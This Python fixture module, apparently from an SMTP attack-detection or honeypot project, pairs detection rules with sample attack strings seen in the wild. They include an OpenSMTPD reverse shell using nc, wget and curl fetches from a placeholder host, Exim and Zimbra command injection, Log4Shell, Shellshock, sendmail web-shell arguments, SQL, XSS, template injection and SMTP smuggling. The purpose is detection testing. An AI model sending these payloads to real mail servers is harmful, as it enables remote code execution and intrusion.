"""Attacks as they were seen, and the rule that each must be found by."""

from collections.abc import Iterator
from dataclasses import dataclass

from secondpost.protocols.attacks import rules
from secondpost.protocols.attacks.rule import AttackRule


@dataclass(frozen=True)
class Seen:
    rule: AttackRule
    text: bytes


ADDRESSES = (
    Seen(rules.OPENSMTPD_2020_7247, b";for i in 0 1 2 3 4 5 6 7 8 9 a b c d;do read r;done;sh;exit 0;"),
    Seen(rules.OPENSMTPD_2020_7247, b";sleep 66;"),
    Seen(rules.OPENSMTPD_2020_7247, b";nc${IFS}-e${IFS}/bin/sh${IFS}192.0.2.1${IFS}4444;"),
    Seen(rules.SHELL_IN_ADDRESS, b"`echo${IFS}ZWNobyBoaQ|base64${IFS}-d|bash`@x.example"),
    Seen(rules.SHELL_IN_ADDRESS, b"user|wget${IFS}http://192.0.2.1/x@x.example"),
    Seen(rules.EXIM_2019_10149, rb"root+${run{\x2Fbin\x2Fsh\t-c\t\x22wget\x20x\x22}}@host.example"),
    Seen(rules.EXIM_2019_10149, b"${run{/bin/bash -c {id}}}@host.example"),
    Seen(rules.EXIM_2019_10149, b"root+${run{x2Fbinx2Fsht-ctx22wgetx20192.0.2.1x22}}@host.example"),
    Seen(rules.EXIM_HEX_ESCAPES, rb"root+\x2fusr\x2fbin\x2fid@host.example"),
    Seen(rules.ZIMBRA_2024_45519, b'"aa$(curl${IFS}192.0.2.1)"@d.example'),
    Seen(rules.ZIMBRA_2024_45519, b'"x$(id)"@d.example'),
    Seen(rules.SENDMAIL_ARGUMENTS, rb'"a\" -oQ/tmp -X/var/www/x.php "@x.example'),
    Seen(rules.SENDMAIL_ARGUMENTS, b"a\\' -oQ/tmp/ -X/var/www/x.php@x.example"),
    Seen(rules.MILTER_2010_1132, b'root+:"|touch /tmp/x"'),
    Seen(rules.PIPE_ADDRESS, b"|/bin/sh@x.example"),
    Seen(rules.PIPE_ADDRESS, b"decode@host.example"),
    Seen(rules.PIPE_ADDRESS, b"uudecode@host.example"),
    Seen(rules.SHELLSHOCK, b"() { :; };/bin/id@x.example"),
    Seen(rules.LOG4SHELL, b"${jndi:ldap://192.0.2.1/a}@x.example"),
    Seen(rules.LOG4SHELL, b"${${lower:j}ndi:dns://x.example}@x.example"),
    Seen(rules.ADDRESS_OF_TWO, b"alice@example.org)bob@example.net"),
    Seen(rules.SQL_PROBE, b"a'or'1@x.example"),
    Seen(rules.SQL_PROBE, b"a' OR 1=1--@x.example"),
    Seen(rules.SQL_PROBE, b"a' UNION SELECT password@x.example"),
    Seen(rules.SQL_PROBE, b"a';drop table users@x.example"),
    Seen(rules.PATH_TRAVERSAL, b"../../../etc/passwd@x.example"),
    Seen(rules.PATH_TRAVERSAL, b"a..%2f..%2f@x.example"),
    Seen(rules.TEMPLATE_PROBE, b"{{7*7}}@x.example"),
    Seen(rules.TEMPLATE_PROBE, b"#{7*7}@x.example"),
    Seen(rules.TEMPLATE_PROBE, b"${7*7}@x.example"),
    Seen(rules.SCRIPT_PROBE, b"<script>alert(1)</script>@x.example"),
    Seen(rules.SCRIPT_PROBE, b'"><img src=x onerror=alert(1)>@x.example'),
    Seen(rules.LINE_END_IN_COMMAND, b"a%0d%0aRCPT@x.example"),
)
LINES = (
    Seen(rules.ETRN_INJECTION, b"ETRN #',1); DROP TABLE tbl; --"),
    Seen(rules.BDAT_SIZE, b"BDAT 18446744073709551615"),
    Seen(rules.BDAT_SIZE, b"BDAT -1 LAST"),
    Seen(rules.LONG_HELLO, b"EHLO " + b"A" * 1_100),
    Seen(rules.LONG_HELLO, b"HELO " + b"A" * 12_000),
    Seen(rules.LONG_LOGIN, b"AUTH CRAM-MD5 " + b"A" * 1_200),
    Seen(rules.NTLM_PROBE, b"AUTH NTLM TlRMTVNTUAABAAAA"),
    Seen(rules.EXTERNAL_LOGIN, b"AUTH EXTERNAL dGVzdA=="),
    Seen(rules.LOGIN, b"AUTH LOGIN"),
    Seen(rules.CLAIMED_CLIENT, b"XCLIENT ADDR=127.0.0.1 NAME=localhost"),
    Seen(rules.CLAIMED_CLIENT, b"XFORWARD ADDR=127.0.0.1"),
    Seen(rules.DEBUG_COMMAND, b"WIZ"),
    Seen(rules.DEBUG_COMMAND, b"DEBUG"),
    Seen(rules.DEBUG_COMMAND, b"XEXCH50 2 2"),
    Seen(rules.ADDRESS_SEARCH, b"VRFY root"),
    Seen(rules.ADDRESS_SEARCH, b"EXPN staff"),
    Seen(rules.OCTETS_IN_COMMAND, b"MAIL FROM:<a\x00b@x.example>"),
    Seen(rules.OCTETS_IN_COMMAND, b"RCPT TO:<a\xff@x.example>"),
    Seen(rules.LINE_END_IN_COMMAND, b"RCPT TO:<a@x.example>\rDATA"),
    Seen(rules.SHELLSHOCK, b"HELO () { :; };/bin/id"),
    Seen(rules.LOG4SHELL, b"EHLO ${jndi:ldap://192.0.2.1/a}"),
    Seen(rules.EXIM_2019_10149, b"EHLO ${run{/bin/id}}"),
    Seen(rules.SHELL_IN_ADDRESS, b"EHLO $(id)"),
    Seen(rules.SCANNER, b"EHLO masscan"),
    Seen(rules.SCANNER, b"EHLO nmap.scanme.org"),
)
FIRSTS = (
    Seen(rules.TLS_AT_ONCE, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"),
    Seen(rules.HTTP, b"GET / HTTP/1.1\r\nHost: x\r\n"),
    Seen(rules.HTTP, b"POST /x HTTP/1.0\r\n"),
    Seen(rules.HTTP, b"CONNECT x.example:443 HTTP/1.1\r\n"),
    Seen(rules.OTHER_PROTOCOL, b"SSH-2.0-Go\r\n"),
    Seen(rules.OTHER_PROTOCOL, b"\x03\x00\x00\x13\x0e\xe0\x00\x00"),
    Seen(rules.OTHER_PROTOCOL, b"\x00\x00\x00\x54\xffSMBr"),
    Seen(rules.OTHER_PROTOCOL, b"\x05\x01\x00"),
    Seen(rules.OTHER_PROTOCOL, b"*1\r\n$4\r\nINFO\r\n"),
    Seen(rules.PROXY_HEADER, b"PROXY TCP4 127.0.0.1 127.0.0.1 1 25\r\n"),
    Seen(rules.PROXY_HEADER, b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c"),
)
HEADERS = (
    Seen(rules.SHELLSHOCK, b"Subject: () { :; }; /bin/id\r\n"),
    Seen(rules.SHELLSHOCK, b"From: () { ignored; }; wget http://192.0.2.1/x\r\n"),
    Seen(rules.LOG4SHELL, b"Subject: ${jndi:ldap://192.0.2.1/a}\r\n"),
    Seen(rules.LOG4SHELL, b"X-Api-Version: a${${::-j}ndi:rmi://192.0.2.1/a}\r\n"),
    Seen(rules.EXIM_2019_10149, b"Received: from ${run{/bin/sh -c {id}}}\r\n"),
    Seen(rules.ZIMBRA_2024_45519, b'Cc: "aa$(curl${IFS}192.0.2.1)"@d.example\r\n'),
    Seen(rules.TEMPLATE_PROBE, b"Subject: {{ ''|attr(\"format\") }}\r\n"),
    Seen(rules.TEMPLATE_PROBE, b'Subject: {{ env "X" }}\r\n'),
    Seen(rules.TEMPLATE_PROBE, b"Subject: {{7*7}}\r\n"),
    Seen(rules.SCRIPT_PROBE, b"Subject: <script>alert(1)</script>\r\n"),
    Seen(rules.SCRIPT_PROBE, b'From: "<img src=x onerror=alert(1)>" <a@x.example>\r\n'),
    *(
        Seen(rules.SCRIPT_PROBE, b"Subject: <%b onload=alert(1)>\r\n" % tag)
        for tag in (b"body", b"input", b"video", b"audio", b"details", b"marquee", b"style", b"svg")
    ),
    *(
        Seen(rules.SCRIPT_PROBE, b"Subject: <%b src=//x.example>\r\n" % tag)
        for tag in (b"iframe", b"object", b"embed", b"math")
    ),
    Seen(rules.SCRIPT_PROBE, b"Subject: <a href=javascript:alert(1)>\r\n"),
    Seen(rules.TEMPLATE_PROBE, b"Subject: <%= 7 * 7 %>\r\n"),
    Seen(rules.TEMPLATE_PROBE, b"Subject: {% import os %}\r\n"),
    Seen(rules.LOG4SHELL, b"Subject: =?utf-8?q?=24=7Bjndi:ldap://x/a=7D?=\r\n"),
    Seen(rules.SCRIPT_PROBE, b"Subject: =?utf-8?q?=3Cscript=3Ealert(1)?=\r\n"),
    Seen(rules.ZIMBRA_2024_45519, b'To: "a$(id)b"@d.example\r\n'),
    Seen(rules.HEADER_INJECTION, b"Subject: =?utf-8?b?aGkNCkJjYzogeEB5LmV4YW1wbGU=?=\r\n"),
    Seen(rules.HEADER_INJECTION, b"From: =?utf-8?q?a=0D=0ABcc:_x@y.example?= <a@x.example>\r\n"),
    Seen(rules.LOG4SHELL, b"Subject: =?utf-8?b?JHtqbmRpOmxkYXA6Ly94L2F9?=\r\n"),
)
BODIES = tuple(
    Seen(rules.SMUGGLING, b"Hello" + end + b"MAIL FROM:<admin@x.example>\r\n")
    for end in (
        b"\n.\r\n",
        b"\n.\n",
        b"\r.\r",
        b"\r.\r\n",
        b"\r\n.\n",
        b"\r\n.\r",
        b"\r\n\x00.\r\n",
        b"\r\n.\x00\r\n",
        b"\r\n.\r\r\n",
    )
)
SERVER_NAMES = (
    Seen(rules.EXIM_2019_15846, b"mx.example\\"),
    Seen(rules.EXIM_2019_15846, b"\\"),
    Seen(rules.EXIM_2019_15846, b"mx.example\\\x00"),
    Seen(rules.EXIM_2019_10149, b"${run{/bin/sh}}.example"),
    Seen(rules.LOG4SHELL, b"${jndi:ldap://x.example/a}"),
)
REPLIES = (Seen(rules.HOSTILE_REPLY, b"553-\n553 \ntype: mda\nmda-exec: /bin/sh -c id\n"),)


def address_variants(text: bytes) -> Iterator[bytes]:
    """The path as attackers vary it: in brackets, quoted, in capitals, padded."""
    yield text
    yield b"<%b>" % text
    yield (b"<%b>" % text).upper()
    yield b"<     %b>" % text
    yield b'<"%b"@x.example>' % text
    yield b'<" \t %b"@x.example>' % text
    yield b"<%b> SIZE=1000 BODY=8BITMIME" % text


def line_variants(text: bytes) -> Iterator[bytes]:
    yield text
    yield text + b"\r\n"
    yield text.upper() + b"\r\n"
    yield text.lower()
    yield b"  " + text + b"   \r\n"


def header_variants(field: bytes) -> Iterator[bytes]:
    name, _, value = field.partition(b":")
    for written in (field, field.upper(), name + b":   \r\n\t" + value.lstrip(b" ")):
        if b"=?" in field and written is not field and written == field.upper():
            continue  # capitals change what base64 says
        yield written
        yield b"From: a@x.example\r\n" + written + b"Date: today\r\n"
